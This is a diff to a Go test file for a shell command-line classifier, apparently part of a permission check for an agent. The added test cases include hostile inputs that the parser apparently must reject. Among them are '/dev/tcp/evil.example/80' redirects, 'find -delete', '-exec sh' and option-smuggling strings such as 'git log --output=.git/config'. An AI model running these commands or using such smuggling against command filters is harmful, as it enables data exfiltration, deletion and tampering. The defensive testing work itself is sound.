@@ -38,7 +38,12 @@ func TestUnderstand(t *testing.T) {
 		"echo hello > notes.txt":        {Does: "write", Within: []string{"."}, Writes: []string{"notes.txt"}},
 		"touch a.go && mkdir -p b":      {Does: "write", Within: []string{".", "a.go", ".", "b"}, Writes: []string{"a.go"}},
 		"cp .env b.txt": {Does: "write", Within: []string{".", ".env",
-			"b.txt"}, Shows: []string{".env"}, Writes: []string{"b.txt"}},
+			"b.txt"}, Shows: []string{".env"}, Writes: []string{"b.txt"}, Into: []string{"b.txt/.env"}},
+		"cp -r a b":                         {Does: "change", Within: []string{".", "a", "b"}, Shows: []string{"a"}, Writes: []string{"b"}, Into: []string{"b/a"}},
+		"git branch -va":                    {Does: "read", Within: []string{"."}, Others: true},
+		"git log --pretty=oneline -U3":      {Does: "read", Within: []string{"."}, Shows: []string{"."}},
+		"head -n -5 a":                      {Does: "read", Within: []string{".", "a"}, Shows: []string{"a"}},
+		"find . -mtime -7":                  {Does: "read", Within: []string{".", "."}},
 		"rm -rf src":                        {Does: "change", Within: []string{".", "src"}},
 		"git add -A":                        {Does: "write", Within: []string{"."}},
 		"git commit -m \"a: b\"":            {Does: "write", Within: []string{"."}, Hooks: true},
@@ -284,6 +289,26 @@ cd a | ls
 cd a && ls || cat b
 cd a && ls; cat b
 timeout -s KILL 1 ls
+timeout 5 cd src
+cat < /dev/tcp/evil.example/80
+cat < /dev/../dev/tcp/evil.example/80
+cd /dev && cat < udp/evil.example/80
+echo x > /dev/tcp/evil.example/80
+find -- . -delete
+find -- . -maxdepth 0 -exec sh -c 'x' ';'
+find -- . -maxdepth 0 -fprintf x y
+find . '(' -delete ')'
+find . , -delete
+go test -- -exec sh
+cargo clippy -- -x
+git log -1 --pretty --output=.git/config
+git log --format --output=x
+git diff -U --output=x
+git diff --unified --ext-diff
+git log --pretty --glob=refs/x
+git log -n --all
+grep -e --include x
+grep --context --recursive x
 timeout 1 sh x
 echo 'x' | sh
 touch 'a' -r /etc/passwd -d x --unknown
@@ -330,6 +355,43 @@ func TestUnderstandIsClosed(t *testing.T) {
 			}
 		}
 	})
+}
+
+// TestValuesAreNoOptions holds that no program's row takes an option for the value of another: a program that does not
+// need a value there would take it for an option.
+func TestValuesAreNoOptions(t *testing.T) {
+	for _, line := range []string{"git log -n", "git log --since", "git log --date", "git show -S", "git diff --diff-filter", "git blame -L",
+		"git commit -m", "find . -name", "rg -e", "grep -A", "head -n", "sort -k", "go test -run", "pytest -k", "cargo test --test", "ls --sort",
+		"du -d", "stat -c", "tree -L", "ruff check --select", "cut -f"} {
+		rapid.Check(t, func(t *rapid.T) {
+			option := rapid.StringMatching(`--?[a-z]{1,8}(=[a-z./]{1,8})?`).Draw(t, "option")
+			for _, l := range []string{line + " " + option + " a", line + " " + option} {
+				if d, ok := cmdline.Understand(l); ok {
+					t.Fatalf("%q: %+v", l, d)
+				}
+			}
+		})
+	}
+}
+
+// TestNames holds which lines have all of an output tell the files that it shows.
+func TestNames(t *testing.T) {
+	for want, all := range map[cmdline.Form][]string{
+		cmdline.Patch: {"git diff", "git diff 2>/dev/null",
+			"git log -p -2 --oneline", "git show HEAD", "git show HEAD~2 -- a.go", "git diff HEAD~1 -- .env"},
+		cmdline.Lines: {"grep -rn x .", "grep -rnI x src", "rg -n -g '*.go' x", "rg -n 'a.*b' src 2>&1", "grep -n -e x a.go b.go"},
+		"": {"git diff > n.txt", "git diff 1>&2", "git diff 2> n.txt", "git diff >/dev/null", "grep -rn '' .env > n.txt", "grep -rn '' .env 1>&2",
+			"git show HEAD:.env HEAD", "git show v1", "git show HEAD v1", "git diff HEAD:.env", "git log -p -z", "git log -p --graph",
+			"git log -p --format=%B", "git log -p --date=format:x", "git diff --word-diff", "grep -rn KEY a.go:1:/..", "grep -rn KEY a.go-1-x",
+			"grep -rn KEY src/../b",
+			"grep -rn KEY a*", "grep -rnh x .", "grep -Rn x .", "rg -nI x", "rg -nL x", "rg -np x", "grep -r -en .", "git diff | head", "git blame a.go"},
+	} {
+		for _, line := range all {
+			if d, ok := cmdline.Understand(line); !ok || d.Names != want {
+				t.Errorf("%q: %v %+v, want %q", line, ok, d, want)
+			}
+		}
+	}
 }
 
 // FuzzUnderstand holds that no line is understood of which a shell expands a part.
